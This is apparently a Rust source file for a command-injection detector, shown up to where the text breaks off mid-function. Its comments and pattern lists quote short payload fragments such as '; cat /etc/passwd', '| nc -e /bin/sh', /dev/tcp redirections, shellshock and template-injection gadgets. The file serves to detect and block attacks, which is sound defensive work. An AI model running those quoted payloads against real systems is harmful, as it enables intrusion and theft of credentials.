//! Command injection detection: a shell-aware reader of command positions.
//!
//! A message is treated as an argument an application pastes into a shell command line. The
//! detector finds where a new command could start (after `;`, `|`, `||`, `&`, `&&`, a newline,
//! inside `$(...)` or backticks, in a brace expansion), reads the command word the way a shell
//! would (quotes and backslashes removed, `$IFS`/`${IFS}` as blanks, empty `$@`/`$1` expansions
//! dropped, directories stripped) and its first arguments, and asks whether that is a real command
//! an attacker runs, with arguments that look like a command line rather than prose.
//!
//! Position matters: a separator that comes right after the first token of the message is the
//! shape of an injection (`127.0.0.1; id`, `'; whoami`), while a separator deep inside a sentence
//! is usually prose (`Hi; how are you?`) and only counts with an unmistakable command
//! (`; cat /etc/passwd`, `| nc -e /bin/sh ...`).

use super::normalize::Marks;
use super::rules::{RuleFilter, RuleInfo};
use super::search::{contains, find, Needles};
use super::wordset::WordSet;
use crate::model::AuditTag;

/// Every rule this detector reports (see [`super::rules`]). These rules were tuned on the
/// development corpus's sources of this class.
pub(super) static RULES: &[RuleInfo] = &[
    RuleInfo::written_for(
        "cmdi-brace-expansion",
        AuditTag::CmdInjection,
        &["payloadbox-cmdi", "fuzzdb-cmdi", "patt-cmdi"],
    ),
    RuleInfo::written_for(
        "cmdi-chain",
        AuditTag::CmdInjection,
        &["payloadbox-cmdi", "fuzzdb-cmdi", "patt-cmdi"],
    ),
    RuleInfo::written_for(
        "cmdi-code-exec",
        AuditTag::CmdInjection,
        &["payloadbox-cmdi", "fuzzdb-cmdi", "patt-cmdi"],
    ),
    RuleInfo::written_for(
        "cmdi-command",
        AuditTag::CmdInjection,
        &["payloadbox-cmdi", "fuzzdb-cmdi", "patt-cmdi"],
    ),
    RuleInfo::written_for(
        "cmdi-obfuscated-command",
        AuditTag::CmdInjection,
        &["payloadbox-cmdi", "fuzzdb-cmdi", "patt-cmdi"],
    ),
    RuleInfo::written_for(
        "cmdi-reverse-shell",
        AuditTag::CmdInjection,
        &["payloadbox-cmdi", "fuzzdb-cmdi", "patt-cmdi"],
    ),
    RuleInfo::written_for(
        "cmdi-shellshock",
        AuditTag::CmdInjection,
        &["payloadbox-cmdi", "fuzzdb-cmdi", "patt-cmdi"],
    ),
    RuleInfo::written_for(
        "cmdi-ssi",
        AuditTag::CmdInjection,
        &["payloadbox-cmdi", "fuzzdb-cmdi", "patt-cmdi"],
    ),
    RuleInfo::written_for(
        "cmdi-substitution",
        AuditTag::CmdInjection,
        &["payloadbox-cmdi", "fuzzdb-cmdi", "patt-cmdi"],
    ),
    RuleInfo::written_for(
        "cmdi-template-injection",
        AuditTag::CmdInjection,
        &["payloadbox-cmdi", "fuzzdb-cmdi", "patt-cmdi"],
    ),
];

type Rule = &'static str;

/// Bytes that start a command position, a substitution, a brace expansion or a redirection.
static TRIGGER: [bool; 256] = {
    let mut t = [false; 256];
    let bytes = b";\n\r|&`${<>";
    let mut k = 0;
    while k < bytes.len() {
        t[bytes[k] as usize] = true;
        k += 1;
    }
    t
};

/// Longest command word or argument kept.
const WORD_MAX: usize = 48;
/// Arguments read after a command word.
const ARGS: usize = 4;

/// A word read the way the shell reads it.
struct Word {
    buf: [u8; WORD_MAX],
    len: usize,
    /// Quotes, backslashes or empty expansions were removed from inside the word.
    obfuscated: bool,
    /// The word did not fit.
    overflow: bool,
}

impl Default for Word {
    fn default() -> Self {
        Word {
            buf: [0; WORD_MAX],
            len: 0,
            obfuscated: false,
            overflow: false,
        }
    }
}

impl Word {
    fn as_bytes(&self) -> &[u8] {
        &self.buf[..self.len]
    }
    fn push(&mut self, b: u8) {
        if self.len < WORD_MAX {
            self.buf[self.len] = b;
            self.len += 1;
        } else {
            self.overflow = true;
        }
    }
    /// The command name: directories (`/usr/bin/`, `c:\windows\`) and `.exe` stripped.
    fn command_name(&self) -> &[u8] {
        let w = self.as_bytes();
        let start = w
            .iter()
            .rposition(|&b| b == b'/' || b == b'\\')
            .map_or(0, |p| p + 1);
        let name = &w[start..];
        name.strip_suffix(b".exe").unwrap_or(name)
    }
}

/// A command read at a command position.
struct Command {
    name: Word,
    args: [Word; ARGS],
    nargs: usize,
    /// The command is followed (before the next separator) by a redirection.
    redirect: bool,
    /// What ended the command: 0 for the end of the text, else the separator byte.
    end: u8,
    /// Where reading stopped.
    stop: usize,
}

fn is_blank(b: u8) -> bool {
    matches!(b, b' ' | b'\t' | 0x0c | 0x0b)
}

fn is_sep(b: u8) -> bool {
    matches!(b, b';' | b'|' | b'&' | b'\n' | b'\r')
}

/// Length of an `$IFS`-style blank at `s`, if any.
fn ifs_at(s: &[u8]) -> usize {
    if s.starts_with(b"${ifs}") {
        6
    } else if s.starts_with(b"$ifs") {
        if s.get(4).is_some_and(|&b| b == b'$') && s.get(5).is_some_and(|b| b.is_ascii_digit()) {
            6
        } else {
            4
        }
    } else {
        0
    }
}

/// Reads one word starting at `i` (blanks already skipped). Stops at blanks, separators,
/// redirections, parentheses and backticks (and `,`/`}` inside a brace expansion).
///
/// Backslash escapes are removed only from command words (`wh\oami`); in arguments they are
/// kept, since there they are usually Windows paths (`c:\windows\repair`).
fn read_word(s: &[u8], mut i: usize, brace: bool, unescape: bool, w: &mut Word) -> usize {
    let n = s.len();
    while i < n {
        let b = s[i];
        if is_blank(b) || is_sep(b) || matches!(b, b'<' | b'>' | b'(' | b')' | b'`') {
            break;
        }
        if brace && matches!(b, b',' | b'}') {
            break;
        }
        match b {
            b'\'' | b'"' => {
                // Quote removal: the quoted part joins the word.
                let q = b;
                let had = w.len > 0;
                let mut j = i + 1;
                while j < n && s[j] != q && j - i <= WORD_MAX {
                    w.push(s[j]);
                    j += 1;
                }
                let glued_after = s
                    .get(j + 1)
                    .is_some_and(|&c| c.is_ascii_alphanumeric() || c == b'\'' || c == b'"');
                if had || glued_after || j == i + 1 {
                    w.obfuscated = true;
                }
                if j < n && s[j] == q {
                    i = j + 1;
                } else {
                    // Unterminated: the word ends with the text (or the length cap).
                    return j;
                }
                continue;
            }
            b'\\' if unescape => {
                if let Some(&c) = s.get(i + 1) {
                    if c == b'\n' {
                        i += 2;
                        continue;
                    }
                    if is_blank(c) || c.is_ascii_alphanumeric() || c == b'/' {
                        w.push(c);
                        w.obfuscated = true;
                        i += 2;
                        continue;
                    }
                }
                w.push(b);
                i += 1;
                continue;
            }
            b'$' => {
                if ifs_at(&s[i..]) > 0 {
                    break;
                }
                // Expansions that are empty in practice: `$@`, `$*`, `$1`..`$9`, `${x:0:0}`.
                if let Some(&c) = s.get(i + 1) {
                    if c == b'@' || c == b'*' || (c.is_ascii_digit() && c != b'0') {
                        w.obfuscated = true;
                        i += 2;
                        continue;
                    }
                    if c == b'(' {
                        break;
                    }
                }
            }
            _ => {}
        }
        w.push(b);
        i += 1;
        if w.overflow {
            break;
        }
    }
    i
}

/// Skips blanks, `$IFS` forms and form-encoding `+` at `i`.
fn skip_blanks(s: &[u8], mut i: usize) -> usize {
    let n = s.len();
    while i < n {
        if is_blank(s[i]) || s[i] == b'+' {
            i += 1;
            continue;
        }
        let k = ifs_at(&s[i..]);
        if k > 0 {
            i += k;
            continue;
        }
        break;
    }
    i
}

impl Command {
    fn new() -> Self {
        Command {
            name: Word::default(),
            args: Default::default(),
            nargs: 0,
            redirect: false,
            end: 0,
            stop: 0,
        }
    }
}

impl Word {
    /// Empties the word without touching its buffer.
    fn clear(&mut self) {
        self.len = 0;
        self.obfuscated = false;
        self.overflow = false;
    }
}

/// Reads a command (word and a few arguments) at `i` into `c`, which is reused between calls so
/// that a text full of separators costs no more than its length.
fn read_command(s: &[u8], i: usize, brace: bool, c: &mut Command) {
    c.name.clear();
    c.nargs = 0;
    c.redirect = false;
    c.end = 0;
    c.stop = i;
    let mut j = skip_blanks(s, i);
    j = read_word(s, j, brace, true, &mut c.name);
    if !known_command(c.name.command_name()) {
        // Not a command we judge: its arguments do not matter.
        c.stop = j;
        return;
    }
    let n = s.len();
    while j < n {
        j = skip_blanks(s, j);
        if j >= n {
            break;
        }
        let b = s[j];
        if is_sep(b) || b == b')' || b == b'`' || (brace && b == b'}') {
            c.end = b;
            break;
        }
        if b == b'<' || b == b'>' {
            c.redirect = true;
            j += 1;
            continue;
        }
        if brace && b == b',' {
            j += 1;
            continue;
        }
        if c.nargs >= ARGS {
            break;
        }
        let before = j;
        c.args[c.nargs].clear();
        j = read_word(s, j, brace, false, &mut c.args[c.nargs]);
        c.nargs += 1;
        if j == before {
            // `(` or another byte no word starts with.
            j += 1;
        }
    }
    c.stop = j;
}

/// How much a command word looks like something an attacker runs.
#[derive(Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Debug)]
enum Verdict {
    No,
    /// A real command with a plausible command line.
    Plausible,
    /// Something attackers run and people rarely type in chat.
    Attack,
}

/// Files and directories whose reading is the goal of an injection.
static SENSITIVE_PATHS: Needles = Needles::new(&[
    b"/etc/passwd",
    b"/etc/shadow",
    b"/etc/group",
    b"/etc/hosts",
    b"/etc/issue",
    b"/etc/sudoers",
    b"/proc/self",
    b"/proc/version",
    b"id_rsa",
    b".ssh/",
    b".bash_history",
    b"win.ini",
    b"boot.ini",
    b"system.ini",
    b"\\repair\\",
    b"%systemroot%",
    b"\\windows\\",
    b"system32",
    b"web.config",
    b"wp-config",
    b".htpasswd",
    b"/var/www",
]);

fn has_sensitive(arg: &[u8]) -> bool {
    SENSITIVE_PATHS.any_in(arg)
}

/// An argument that looks like a command line rather than a word of prose: an option, a path, a
/// variable, a number, a host or URL, a glob.
fn shellish(arg: &[u8]) -> bool {
    let Some(&f) = arg.first() else { return false };
    matches!(
        f,
        b'-' | b'/' | b'.' | b'~' | b'$' | b'%' | b'\\' | b'*' | b'0'..=b'9' | b'{'
    ) || arg
        .iter()
        .any(|&b| matches!(b, b'/' | b'\\' | b'.' | b'=' | b':' | b'*'))
}

fn is_number(a: &[u8]) -> bool {
    !a.is_empty() && a.iter().all(|b| b.is_ascii_digit() || *b == b'.')
}

/// Every command [`judge`] knows, sorted by bytes for binary search.
const KNOWN_COMMANDS: &[&[u8]] = &[
    b"arp",
    b"awk",
    b"base64",
    b"bash",
    b"bitsadmin",
    b"cat",
    b"certutil",
    b"chattr",
    b"chmod",
    b"chown",
    b"cmd",
    b"copy",
    b"cp",
    b"crontab",
    b"cscript",
    b"csh",
    b"curl",
    b"dash",
    b"del",
    b"dig",
    b"dir",
    b"echo",
    b"env",
    b"expr",
    b"fetch",
    b"find",
    b"format",
    b"ftp",
    b"gawk",
    b"getuid",
    b"grep",
    b"halt",
    b"head",
    b"hostname",
    b"id",
    b"ifconfig",
    b"ipconfig",
    b"kill",
    b"killall",
    b"ksh",
    b"last",
    b"less",
    b"ls",
    b"lua",
    b"lwp-download",
    b"mkfifo",
    b"mknod",
    b"more",
    b"mshta",
    b"mv",
    b"nc",
    b"ncat",
    b"net",
    b"netcat",
    b"netsh",
    b"netstat",
    b"nl",
    b"node",
    b"nohup",
    b"nslookup",
    b"od",
    b"passwd",
    b"perl",
    b"php",
    b"phpinfo",
    b"ping",
    b"pkill",
    b"powershell",
    b"printenv",
    b"printf",
    b"ps",
    b"pwd",
    b"pwsh",
    b"python",
    b"python2",
    b"python3",
    b"reboot",
    b"reg",
    b"regsvr32",
    b"rm",
    b"rmdir",
    b"route",
    b"ruby",
    b"rundll32",
    b"schtasks",
    b"sh",
    b"shutdown",
    b"sleep",
    b"socat",
    b"strings",
    b"su",
    b"sudo",
    b"sysinfo",
    b"systeminfo",
    b"tac",
    b"tail",
    b"tasklist",
    b"tcsh",
    b"telnet",
    b"tftp",
    b"timeout",
    b"touch",
    b"traceroute",
    b"tracert",
    b"type",
    b"uname",
    b"useradd",
    b"usermod",
    b"ver",
    b"w",
    b"wget",
    b"who",
    b"whoami",
    b"wmic",
    b"wscript",
    b"xcopy",
    b"xterm",
    b"xxd",
    b"zsh",
];

static KNOWN_COMMAND_SET: WordSet = WordSet::new(KNOWN_COMMANDS);

/// Is `word` (any case) the name of a command the detector knows? A cheap test for JSON strings
/// that are one plain token: only those can be a whole command line.
pub fn is_command_word(word: &[u8]) -> bool {
    let mut buf = [0u8; 16];
    if word.len() > buf.len() {
        return false;
    }
    for (d, &c) in buf.iter_mut().zip(word) {
        *d = c.to_ascii_lowercase();
    }
    known_command(&buf[..word.len()])
}

/// Is `name` a command [`judge`] knows? (Arguments are read only for these.)
fn known_command(name: &[u8]) -> bool {
    name.len() <= 16 && KNOWN_COMMAND_SET.contains(name)
}

fn judge(c: &Command) -> Verdict {
    let name = c.name.command_name();
    if name.is_empty() || c.name.overflow || !known_command(name) {
        return Verdict::No;
    }
    let arg = |k: usize| -> &[u8] {
        if k < c.nargs {
            c.args[k].as_bytes()
        } else {
            &[]
        }
    };
    let any_arg = |f: &dyn Fn(&[u8]) -> bool| (0..c.nargs).any(|k| f(c.args[k].as_bytes()));
    let no_args = c.nargs == 0;
    let first_shellish = c.nargs > 0 && shellish(arg(0));
    // Only the file-reading commands ask, and most candidate commands are not those.
    let sensitive = || any_arg(&has_sensitive);
    let opt = |o: &[u8]| any_arg(&|a: &[u8]| a == o);
    let opt_has = |ch: u8| {
        any_arg(&|a: &[u8]| a.len() >= 2 && a[0] == b'-' && a[1] != b'-' && a.contains(&ch))
    };
    match name {
        // Recon commands people rarely type inside a sentence.
        b"whoami" | b"ifconfig" | b"ipconfig" | b"systeminfo" | b"sysinfo" | b"tasklist"
        | b"netstat" | b"hostname" | b"getuid" | b"phpinfo" => {
            if no_args || first_shellish {
                Verdict::Attack
            } else {
                Verdict::Plausible
            }
        }
        b"id" => {
            if no_args {
                Verdict::Attack
            } else if first_shellish && arg(0).starts_with(b"-") {
                Verdict::Plausible
            } else {
                Verdict::No
            }
        }
        b"uname" => {
            if opt(b"-a") || no_args {
                Verdict::Attack
            } else {
                Verdict::Plausible
            }
        }
        b"pwd" | b"env" | b"printenv" | b"ver" | b"ps" | b"w" | b"who" | b"last" => {
            if no_args || first_shellish {
                Verdict::Plausible
            } else {
                Verdict::No
            }
        }
        b"cat" | b"tac" | b"more" | b"less" | b"head" | b"tail" | b"type" | b"nl" | b"strings"
        | b"xxd" | b"od" | b"base64" | b"grep" => {
            if sensitive() {
                Verdict::Attack
            } else if first_shellish {
                Verdict::Plausible
            } else {
                Verdict::No
            }
        }
        b"ls" | b"dir" => {
            let system_dir = any_arg(&|a: &[u8]| {
                a == b"/"
                    || [
                        &b"/etc"[..],
                        b"/home",
                        b"/root",
                        b"/tmp",
                        b"/var",
                        b"/usr",
                        b"/bin",
                        b"/proc",
                    ]
                    .iter()
                    .any(|d| a.starts_with(d))
                    || (a.len() >= 2 && a[0].is_ascii_lowercase() && a[1] == b':')
            });
            if system_dir || sensitive() {
                Verdict::Attack
            } else if no_args || first_shellish || arg(0).starts_with(b"c:") {
                Verdict::Plausible
            } else {
                Verdict::No
            }
        }
        b"nc" | b"ncat" | b"netcat" | b"socat" | b"telnet" => {
            let shell = any_arg(&|a: &[u8]| {
                a.ends_with(b"/sh")
                    || a.ends_with(b"/bash")
                    || a.starts_with(b"cmd")
                    || a.starts_with(b"exec:")
            });
            if opt_has(b'e') || shell || (opt_has(b'l') && opt_has(b'p')) {
                Verdict::Attack
            } else if first_shellish || c.nargs >= 2 {
                Verdict::Plausible
            } else {
                Verdict::No
            }
        }
        b"bash" | b"sh" | b"zsh" | b"dash" | b"ksh" | b"csh" | b"tcsh" => {
            if opt(b"-i") || (c.redirect && any_arg(&|a: &[u8]| contains(a, b"/dev/tcp"))) {
                Verdict::Attack
            } else if no_args || first_shellish {
                Verdict::Plausible
            } else {
                Verdict::No
            }
        }
        b"curl" | b"wget" | b"fetch" | b"tftp" | b"ftp" | b"lwp-download" | b"certutil"
        | b"bitsadmin" => {
            if c.end == b'|' || opt(b"-o") || any_arg(&|a: &[u8]| contains(a, b"/tmp/")) {
                Verdict::Attack
            } else if first_shellish || c.nargs >= 1 && contains(arg(0), b".") {
                Verdict::Plausible
            } else {
                Verdict::No
            }
        }
        b"python" | b"python2" | b"python3" | b"perl" | b"php" | b"ruby" | b"lua" | b"node"
        | b"powershell" | b"pwsh" | b"cmd" | b"cscript" | b"wscript" | b"mshta" | b"rundll32"
        | b"regsvr32" => {
            // The option that takes code differs: `php -r`, `node -e`, `python -c`, `cmd /c`.
            let code_opt = match name {
                b"php" => opt(b"-r"),
                b"cmd" => opt(b"/c") || opt(b"/k"),
                _ => false,
            };
            if opt(b"-c")
                || opt(b"-e")
                || code_opt
                || opt(b"-enc")
                || opt(b"-command")
                || opt(b"-nop")
            {
                Verdict::Attack
            } else if no_args || first_shellish {
                Verdict::Plausible
            } else {
                Verdict::No
            }
        }
        b"ping" => {
            let timing = opt(b"-c") || opt(b"-n") || opt(b"-i") || opt(b"-t");
            let host = any_arg(&|a: &[u8]| {
                a.iter().filter(|&&b| b == b'.').count() >= 1
                    && a.iter()
                        .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-'))
                    || a == b"localhost"
            });
            if timing && host {
                Verdict::Attack
            } else if host || first_shellish {
                Verdict::Plausible
            } else {
                Verdict::No
            }
        }
        b"sleep" | b"timeout" => {
            if c.nargs >= 1 && is_number(arg(0)) {
                Verdict::Attack
            } else {
                Verdict::No
            }
        }
        b"echo" | b"printf" => {
            let code = any_arg(&|a: &[u8]| {
                contains(a, b"<?php") || contains(a, b"<%") || contains(a, b"/dev/tcp")
            });
            if c.redirect && code {
                Verdict::Attack
            } else if c.nargs >= 1 && (first_shellish || c.args[0].obfuscated) {
                Verdict::Plausible
            } else {
                Verdict::No
            }
        }
        b"rm" | b"del" | b"rmdir" => {
            if opt(b"-rf") || opt(b"-fr") || opt(b"/s") || opt(b"/q") {
                Verdict::Attack
            } else if first_shellish {
                Verdict::Plausible
            } else {
                Verdict::No
            }
        }
        b"chmod" | b"chown" | b"chattr" | b"mkfifo" | b"mknod" | b"crontab" | b"useradd"
        | b"usermod" | b"passwd" | b"nohup" | b"killall" | b"pkill" | b"wmic" | b"schtasks"
        | b"nslookup" | b"dig" | b"traceroute" | b"tracert" | b"arp" | b"route" | b"awk"
        | b"gawk" | b"find" | b"xterm" | b"cp" | b"mv" | b"copy" | b"xcopy" | b"kill" | b"sudo"
        | b"su" | b"expr" | b"touch" => {
            if first_shellish || (no_args && matches!(name, b"arp" | b"route" | b"su")) {
                Verdict::Plausible
            } else {
                Verdict::No
            }
        }
        b"reg" => {
            let hive = any_arg(&|a: &[u8]| a.starts_with(b"hk"));
            if matches!(arg(0), b"add" | b"query" | b"delete" | b"save" | b"export") && hive {
                Verdict::Attack
            } else {
                Verdict::No
            }
        }
        b"netsh" => {
            if matches!(
                arg(0),
                b"firewall" | b"advfirewall" | b"wlan" | b"interface" | b"int"
            ) {
                Verdict::Attack
            } else {
                Verdict::No
            }
        }
        b"net" => {
            if matches!(
                arg(0),
                b"user" | b"localgroup" | b"group" | b"view" | b"share" | b"use"
            ) {
                Verdict::Attack
            } else {
                Verdict::No
            }
        }
        b"shutdown" | b"reboot" | b"halt" | b"format" => {
            if first_shellish || no_args && name != b"format" {
                Verdict::Plausible
            } else {
                Verdict::No
            }
        }
        _ => Verdict::No,
    }
}

/// Bytes the command-position scan below starts from ([`TRIGGER`]).
const TRIGGER_MARKS: Marks = Marks::of(b";\n\r|&`${<>");

/// The first command-injection rule that fires on `view` (whose marks are `marks`).
/// Runs the detector with the rules `rules` allows.
pub fn detect(view: &[u8], marks: Marks, rules: RuleFilter<'_>) -> Option<Rule> {
    detect_first(view, marks).and_then(|rule| rules.fire(rule))
}

fn detect_first(view: &[u8], marks: Marks) -> Option<Rule> {
    let s = view;
    let n = s.len();
    if n == 0 {
        return None;
    }
    if let Some(r) = whole_text_rules(s, marks) {
        return Some(r);
    }
    let mut cmd = Command::new();
    if let Some(r) = leading_command(s, &mut cmd) {
        return Some(r);
    }
    // Every other command position starts at one of the trigger bytes; most messages have none.
    if !marks.any(TRIGGER_MARKS) {
        return None;
    }
    // Where the first token of the message ends: separators before it are in injection position.
    let lead = {
        let start = s.iter().position(|&b| !is_blank(b)).unwrap_or(n);
        let mut k = start;
        while k < n && !is_blank(s[k]) && !is_sep(s[k]) {
            k += 1;
        }
        k
    };
    let first_alnum = s
        .iter()
        .position(|b| b.is_ascii_alphanumeric())
        .unwrap_or(n);
    let first_blank = s.iter().position(|&b| is_blank(b)).unwrap_or(n);
    let starts_with_separator = s
        .iter()
        .find(|&&b| !(is_blank(b) || matches!(b, b'\'' | b'"')))
        .is_some_and(|&b| is_sep(b));
    let mut i = 0;
    while i < n {
        let b = s[i];
        if !TRIGGER[usize::from(b)] {
            match s[i..].iter().position(|&c| TRIGGER[usize::from(c)]) {
                Some(p) => {
                    i += p;
                    continue;
                }
                None => break,
            }
        }
        let (cmd_at, kind) = match b {
            b';' | b'\n' | b'\r' => (i + 1, "cmdi-chain"),
            b'|' | b'&' => {
                let mut k = i + 1;
                if s.get(k) == Some(&b) {
                    k += 1;
                }
                (k, "cmdi-chain")
            }
            // A run of backticks is a Markdown code fence, not a substitution.
            b'`' if s.get(i + 1) == Some(&b'`') || (i > 0 && s[i - 1] == b'`') => {
                i += 1;
                continue;
            }
            b'`' => (i + 1, "cmdi-substitution"),
            b'$' if s.get(i + 1) == Some(&b'(') => (i + 2, "cmdi-substitution"),
            b'{' if s
                .get(i + 1)
                .is_some_and(|b| b.is_ascii_alphabetic() || *b == b'/') =>
            {
                // Brace expansion `{cat,/etc/passwd}` runs the first item as a command.
                let window = &s[..n.min(i + 129)];
                read_command(window, i + 1, true, &mut cmd);
                let c = &cmd;
                let closed = c.end == b'}' || window.get(c.stop) == Some(&b'}');
                if closed
                    && contains(&window[i..c.stop.min(window.len())], b",")
                    && judge(c) >= Verdict::Plausible
                {
                    return Some("cmdi-brace-expansion");
                }
                i += 1;
                continue;
            }
            b'<' | b'>' => {
                // Redirection to a network device: a reverse shell.
                let rest = &s[i + 1..n.min(i + 16)];
                let rest_t = {
                    let k = rest
                        .iter()
                        .position(|&b| !(is_blank(b) || b == b'&' || b.is_ascii_digit()))
                        .unwrap_or(rest.len());
                    &rest[k..]
                };
                if rest_t.first() == Some(&b'/')
                    && (rest_t.starts_with(b"/dev/tcp/") || rest_t.starts_with(b"/dev/udp/"))
                {
                    return Some("cmdi-reverse-shell");
                }
                i += 1;
                continue;
            }
            _ => {
                i += 1;
                continue;
            }
        };
        read_command(s, cmd_at, false, &mut cmd);
        let c = &cmd;
        let v = judge(c);
        // A message that itself starts with a separator is a command list from the start: every
        // command in it stands where an injection puts one (`\necho x\ncurl ...`).
        let in_lead = i <= lead || i <= first_alnum || starts_with_separator;
        // A command cut off by `)` outside a `$(...)` is not a shell command line (regular
        // expressions: `(cp|cmd)`).
        if c.end == b')' && b != b'$' {
            i = cmd_at.max(i + 1);
            continue;
        }
        // A backticked word followed by prose is Markdown code, not a substitution:
        // `` `hostname` is the name ``.
        if b == b'`' && c.end == b'`' && markdown_span(s, c.stop) {
            i = c.stop.max(i + 1);
            continue;
        }
        if v == Verdict::Attack || (v == Verdict::Plausible && in_lead) {
            return Some(kind);
        }
        if c.name.obfuscated && v >= Verdict::Plausible {
            return Some("cmdi-obfuscated-command");
        }
        if kind == "cmdi-substitution" && v == Verdict::Plausible {
            // A substitution glued to the first token (`x$(id)`, `` `ls` ``).
            if i < first_blank && c.end != 0 {
                return Some(kind);
            }
        }
        i = cmd_at.max(i + 1);
    }
    // `$IFS` used as a blank next to a command.
    None
}

/// A command at the very start of the text (after the quote that closes the application's
/// string, if any): only unmistakable ones.
fn leading_command(s: &[u8], cmd: &mut Command) -> Option<Rule> {
    let n = s.len();
    let start = s
        .iter()
        .position(|&b| !matches!(b, b'\'' | b'"') && !is_blank(b))
        .unwrap_or(n);
    read_command(s, start, false, cmd);
    let c = &*cmd;
    let v = judge(c);
    // The whole first segment must be the command line: `rm -rf is dangerous` is prose.
    let windows_admin = matches!(c.name.command_name(), b"net" | b"reg" | b"netsh");
    let whole = c.stop >= n || c.end != 0 || windows_admin;
    let args_shellish = (0..c.nargs).all(|k| {
        let a = c.args[k].as_bytes();
        shellish(a) || is_number(a)
    }) || matches!(
        c.name.command_name(),
        b"net"
            | b"reg"
            | b"netsh"
            | b"perl"
            | b"python"
            | b"python3"
            | b"php"
            | b"ruby"
            | b"powershell"
            | b"nc"
            | b"ncat"
            | b"echo"
    );
    if v == Verdict::Attack && whole && args_shellish {
        return Some("cmdi-command");
    }
    if c.name.obfuscated && v >= Verdict::Plausible {
        return Some("cmdi-obfuscated-command");
    }
    None
}

/// Commands that prove execution when code runs them (`system('echo x')`), whatever the
/// arguments.
fn common_command(name: &[u8]) -> bool {
    matches!(
        name,
        b"echo"
            | b"sleep"
            | b"ping"
            | b"cat"
            | b"ls"
            | b"id"
            | b"whoami"
            | b"uname"
            | b"dir"
            | b"type"
            | b"pwd"
            | b"curl"
            | b"wget"
            | b"nc"
            | b"bash"
            | b"sh"
            | b"cmd"
            | b"powershell"
            | b"net"
            | b"ipconfig"
            | b"ifconfig"
            | b"hostname"
    )
}

/// After the closing backtick at `close`: a space and then more words (Markdown code in a
/// sentence), rather than the end, a separator or a quote (shell substitution).
fn markdown_span(s: &[u8], close: usize) -> bool {
    let rest = s.get(close + 1..).unwrap_or(&[]);
    let trimmed = rest.trim_ascii_start();
    if trimmed.len() == rest.len() {
        // Glued to what follows (`` `id`x ``): part of a shell word.
        return false;
    }
    trimmed
        .first()
        .is_some_and(|&b| !(is_sep(b) || matches!(b, b'\'' | b'"' | b'`' | b'<' | b'>')))
}

/// Constructs that are command execution wherever they appear.
fn whole_text_rules(s: &[u8], marks: Marks) -> Option<Rule> {
    // Every construct below needs one of these bytes; most messages have none.
    let paren = marks.has(b'(');
    let brace = marks.has(b'{');
    let dollar = marks.has(b'$');
    let angle = marks.has(b'<');
    if !(paren || brace || angle) {
        return None;
    }
    // Shellshock function definition.
    if let Some(p) = (paren && brace).then(|| find(s, b"() {")).flatten() {
        let rest = &s[p + 4..s.len().min(p + 12)];
        if rest.trim_ascii_start().starts_with(b":;") || rest.trim_ascii_start().starts_with(b": ;")
        {
            return Some("cmdi-shellshock");
        }
    }
    // PHP code evaluation: `{${phpinfo()}}`, `${@print(...)}`, `phpinfo();`.
    // PHP complex syntax evaluating a call: `{${phpinfo()}}`, `${@print(...)}`, `{$_GET[...]}`
    // (CMake's `${${var}}` nests names, not calls).
    let php_call = |p: usize| {
        let rest = &s[p..s.len().min(p + 48)];
        let name = rest
            .iter()
            .take_while(|b| b.is_ascii_alphanumeric() || **b == b'_' || **b == b'@')
            .count();
        name > 0 && rest.get(name) == Some(&b'(')
    };
    if dollar
        && (find(s, b"{${").is_some_and(|p| php_call(p + 3))
            || find(s, b"${@").is_some()
            || find(s, b"{$_").is_some())
    {
        return Some("cmdi-code-exec");
    }
    for f in [
        &b"phpinfo("[..],
        b"phpversion(",
        b"php_uname(",
        b"get_current_user(",
    ] {
        if let Some(p) = paren.then(|| find(s, f)).flatten() {
            if p == 0 || !(s[p - 1].is_ascii_alphanumeric() || s[p - 1] == b'_') {
                return Some("cmdi-code-exec");
            }
        }
    }
    // Server-side includes.
    if angle && find(s, b"<!--#exec").is_some() {
        return Some("cmdi-ssi");
    }
    // Server-side template injection reaching Python object internals.
    if let Some(p) = brace.then(|| find(s, b"{{")).flatten() {
        let window = &s[p..s.len().min(p + 256)];
        // The arithmetic probe of template injection: `{{7*7}}`.
        let inner = window[2..].trim_ascii_start();
        let digits = inner.iter().take_while(|b| b.is_ascii_digit()).count();
        if digits > 0 {
            let rest = inner[digits..].trim_ascii_start();
            if let Some(&op) = rest.first() {
                let rest = rest[1..].trim_ascii_start();
                let d2 = rest.iter().take_while(|b| b.is_ascii_digit()).count();
                if matches!(op, b'+' | b'*' | b'-')
                    && d2 > 0
                    && rest[d2..].trim_ascii_start().starts_with(b"}}")
                {
                    return Some("cmdi-template-injection");
                }
            }
        }
        let end = find(window, b"}}").unwrap_or(window.len());
        if has_sensitive(&window[..end]) {
            return Some("cmdi-template-injection");
        }
        let mut compact = [0u8; 256];
        let mut len = 0;
        for &b in window {
            if !is_blank(b) {
                compact[len] = b;
                len += 1;
            }
        }
        let c = &compact[..len];
        for t in [
            &b"__class__"[..],
            b"__subclasses__",
            b"__globals__",
            b"__builtins__",
            b"__import__",
            b"__mro__",
            b"__base__",
            b"popen(",
        ] {
            if contains(c, t) {
                return Some("cmdi-template-injection");
            }
        }
    }
    // Code that runs a command line: `system('id')`, `exec("cat /etc/passwd")`.
    if !paren {
        return None;
    }
    for (p, _) in s
        .iter()
        .enumerate()
        .filter(|&(p, &b)| b == b'(' && p > 0 && s[p - 1].is_ascii_lowercase())
    {
        let mut k = p;
        while k > 0 && p - k < 12 && (s[k - 1].is_ascii_lowercase() || s[k - 1] == b'_') {
            k -= 1;
        }
        if k > 0 && (s[k - 1].is_ascii_alphanumeric() || s[k - 1] == b'_') {
            continue;
        }
        // `await exec('ls')`, `self.exec(...)`: a call inside code someone pasted. Payloads call
        // these at the start, after a separator or quote, or inside `<?php`.
        let before = s[..k].trim_ascii_end();
        let prev = before.last().copied();
        if prev.is_some_and(|b| b.is_ascii_alphanumeric() || b == b'_' || b == b'.')
            && !before.ends_with(b"<?php")
            && !before.ends_with(b")")
        {
            continue;
        }
        let name = &s[k..p];
        if !matches!(
            name,
            b"system"
                | b"exec"
                | b"passthru"
                | b"shell_exec"
                | b"popen"
                | b"proc_open"
                | b"pcntl_exec"
                | b"spawn"
                | b"execsync"
        ) {
            continue;
        }
        let rest = s[p + 1..].trim_ascii_start();
        match rest.first() {
            Some(&q @ (b'\'' | b'"' | b'`')) => {
                let body = &rest[1..rest.len().min(257)];
                let body = &body[..body.iter().position(|&b| b == q).unwrap_or(body.len())];
                let mut cmd = Command::new();
                read_command(body, 0, false, &mut cmd);
